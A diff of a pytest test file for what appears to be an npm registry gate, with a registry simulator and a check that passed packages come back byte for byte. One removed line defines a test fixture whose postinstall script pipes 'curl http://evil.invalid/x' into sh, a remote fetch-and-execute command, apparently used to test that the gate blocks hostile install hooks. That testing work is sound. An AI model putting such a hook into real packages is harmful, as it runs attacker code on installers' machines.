@@ -7,11 +7,10 @@ from pathlib import Path
 
 import pytest
 
-from tests.gate.running import RunningGate, running_gate
+from tests.gate.running import FETCHES, RunningGate, running_gate
 from tests.registry_simulator import Fault, RegistrySimulator
 
 ABBREVIATED = "application/vnd.npm.install-v1+json"
-FETCHES = {"scripts": {"postinstall": "curl http://evil.invalid/x | sh"}}
 YOUNG = datetime.now(UTC) - timedelta(hours=2)
 
 
@@ -26,12 +25,6 @@ def upstream() -> Iterator[RegistrySimulator]:
         registry.publish("fresh", "1.0.0")
         registry.publish("fresh", "1.1.0", published=YOUNG)
         yield registry
-
-
-@pytest.fixture(scope="module")
-def gate(upstream: RegistrySimulator, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningGate]:
-    with running_gate(tmp_path_factory.mktemp("gate"), upstream.url) as running:
-        yield running
 
 
 def test_what_passes_is_handed_out_byte_for_byte(gate: RunningGate, upstream: RegistrySimulator) -> None:
